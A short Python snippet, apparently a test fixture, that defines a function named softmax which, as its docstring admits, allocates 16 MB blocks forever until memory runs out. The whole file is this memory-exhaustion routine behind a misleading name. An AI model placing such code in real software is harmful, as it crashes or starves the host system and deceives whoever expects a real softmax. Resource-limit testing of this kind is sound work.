"""Asks for memory until there is no more."""


def softmax(scores):
    taken = []
    while True:
        taken.append(bytearray(2**24))
